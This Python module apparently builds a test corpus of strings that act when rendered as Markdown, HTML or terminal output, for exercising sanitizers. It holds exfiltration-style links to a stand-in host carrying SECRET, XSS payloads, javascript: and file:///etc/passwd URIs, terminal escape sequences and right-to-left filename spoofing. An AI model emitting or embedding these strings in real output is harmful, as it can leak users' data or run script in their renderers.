"""Strings that act where they are shown as Markdown, HTML, or in a terminal: carriers times what they carry."""

from collections.abc import Iterator

TARGETS = (
    "https://leak.example/c?q=SECRET",
    "http://leak.example",
    "//leak.example/x",
    "www.leak.example/?d=1",
    "leak.example/?d=SECRET",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "ftp://leak.example/a",
    "mailto:spy@leak.example?body=SECRET",
    "spy@leak.example",
    "file:///etc/passwd",
    "http://[::1]/x",
    "https://leak.example/a_(b)",
    "http://leak.example\\@other.example",
)
CARRIERS = (
    "{0}",
    "<{0}>",
    "[press here]({0})",
    "![logo]({0})",
    "[![logo]({0})]({0})",
    "[press][p] [p]: {0}",
    "[1]: {0}",
    "[1]({0})",
    "![x][1]",
    "`{0}",
    "`` {0}",
    "\\`{0}`",
    "\\[x]({0})",
    "[a\\]({0})",
    "[a\\\\]({0})",
    "*{0}*",
    "_{0}_",
    "~~{0}~~",
    "<a href='{0}'>press</a>",
    '<a href="{0}">press</a>',
    "<img src='{0}'>",
    '<iframe src="{0}"></iframe>',
    "<form action={0}><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<link rel=stylesheet href={0}>",
    "<object data={0}></object>",
    "<svg><a xlink:href='{0}'>x</a></svg>",
)
BARE = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>x</script>]]>",
    "<?php echo 1 ?>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<style>*{background:url(https://leak.example)}</style>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<base href=https://leak.example/>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://leak.example\x07press\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x9b2J",
    "a\x08\x08b\x7f",
    "[/x].md",
    "[bold]loud[/bold]",
    "[link=https://leak.example]press[/link]",
    "\u202egnp.exe\u202c",
    "\u2066a\u2069\u2067b",
)


def carried(carrier: str) -> Iterator[str]:
    """A carrier with each target."""
    return (carrier.format(target) for target in TARGETS)


def strings() -> Iterator[str]:
    """Every carrier with every target, and those that carry nothing."""
    for carrier in CARRIERS:
        yield from carried(carrier)
    yield from BARE
